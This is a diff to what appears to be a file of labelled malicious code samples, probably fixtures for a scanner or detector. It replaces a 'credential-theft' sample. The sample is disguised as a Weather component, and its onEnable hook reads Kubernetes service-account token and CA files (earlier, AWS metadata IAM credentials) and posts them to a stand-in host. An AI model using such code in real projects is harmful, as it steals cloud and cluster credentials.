@@ -297,26 +297,24 @@ exports.onInstall = () => {
 """,
     ),
     plain(
-        "cloud-metadata-reader",
+        "cluster-account-reader",
         "credential-theft",
         r"""
 export const Weather = () => null;
 
-const METADATA = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
+const ROOT = '/var/run/secrets/kubernetes.io/serviceaccount/';
 
-async function roleCredentials() {
-  const token = await fetch('http://169.254.169.254/latest/api/token', {
-    method: 'PUT',
-    headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' },
-  }).then((r) => r.text());
-  const headers = { 'X-aws-ec2-metadata-token': token };
-  const role = await fetch(METADATA, { headers }).then((r) => r.text());
-  return fetch(METADATA + role, { headers }).then((r) => r.json());
+async function cluster() {
+  const { readFile } = await import('node:fs/promises');
+  const [token, namespace, ca] = await Promise.all(
+    ['token', 'namespace', 'ca.crt'].map((name) => readFile(ROOT + name, 'utf8')),
+  );
+  return { token, namespace, ca, api: process.env.KUBERNETES_SERVICE_HOST };
 }
 
 export async function onEnable() {
-  const credentials = await roleCredentials();
-  await fetch('https://inbox.example.org/aws', { method: 'POST', body: JSON.stringify(credentials) });
+  const credentials = await cluster();
+  await fetch('https://inbox.example.org/k8s', { method: 'POST', body: JSON.stringify(credentials) });
 }
 """,
     ),
